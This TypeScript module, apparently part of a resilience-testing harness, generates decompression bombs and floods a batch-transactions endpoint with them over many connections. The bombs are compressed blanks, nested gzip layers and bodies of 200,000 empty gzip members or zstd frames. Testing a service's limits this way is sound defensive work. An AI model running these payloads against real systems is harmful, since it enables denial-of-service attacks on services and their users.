// Bodies that are small on the wire and very large decoded: gzip, br and zstd, nested, and in many
// members.

import { brotliCompressSync, constants, gzipSync, zstdCompressSync } from "node:zlib";
import type { Abuse, AbuseContext, Title } from "../abuse.ts";
import { flood, requestBytes } from "../sending.ts";

type Encoding = "gzip" | "br" | "zstd";

function compress(encoding: Encoding, bytes: Uint8Array): Buffer {
  if (encoding === "gzip") return gzipSync(bytes);
  if (encoding === "zstd") return zstdCompressSync(bytes);
  return brotliCompressSync(bytes, { params: { [constants.BROTLI_PARAM_QUALITY]: 5 } });
}

function bomb(
  [name, what]: Title,
  { encoding, type = "application/json" }: { readonly encoding: string; readonly type?: string },
  makeBody: (context: AbuseContext) => Uint8Array,
): Abuse {
  return {
    name,
    what,
    prepare: (context) => {
      const body = makeBody(context);
      const { token } = context.target;
      const headers = { "content-encoding": encoding, "content-type": type };
      const request = requestBytes("POST", "/v2/transactions/batch", { token, headers, body });
      return {
        run: () => flood(context, { connections: context.amount(32, 4) }, () => request),
      };
    },
  };
}

function blanks(context: AbuseContext): Buffer {
  return Buffer.alloc(context.amount(256_000_000, 32_000_000), " ");
}

const kinds: readonly Encoding[] = ["gzip", "br", "zstd"];

export const bombs: readonly Abuse[] = [
  ...kinds.flatMap((encoding) => [
    bomb([`${encoding}-bomb`, `256 MB of blanks as ${encoding}`], { encoding }, (context) =>
      compress(encoding, blanks(context)),
    ),
    bomb(
      [`${encoding}-stream-bomb`, `a stream that decodes to 256 MB of blanks, as ${encoding}`],
      { encoding, type: "application/x-ndjson" },
      (context) => compress(encoding, blanks(context)),
    ),
  ]),
  bomb(
    ["nested-bomb", "gzip within gzip within gzip"],
    { encoding: "gzip, gzip, gzip" },
    (context) => gzipSync(gzipSync(gzipSync(blanks(context)))),
  ),
  bomb(
    ["nested-bomb-once", "gzip within gzip that is declared as one"],
    { encoding: "gzip" },
    (context) => gzipSync(gzipSync(blanks(context))),
  ),
  bomb(["gzip-members", "a gzip of 200,000 empty members"], { encoding: "gzip" }, (context) =>
    Buffer.concat(Array.from({ length: context.amount(200_000, 20_000) }, () => gzipSync(""))),
  ),
  bomb(["zstd-frames", "a zstd of 200,000 empty frames"], { encoding: "zstd" }, (context) => {
    const frame = zstdCompressSync("");
    return Buffer.concat(Array.from({ length: context.amount(200_000, 20_000) }, () => frame));
  }),
  bomb(
    ["gzip-members-stream", "a stream of 200,000 gzip members of a blank line"],
    { encoding: "gzip", type: "application/x-ndjson" },
    (context) => {
      const member = gzipSync("\n");
      return Buffer.concat(Array.from({ length: context.amount(200_000, 20_000) }, () => member));
    },
  ),
];
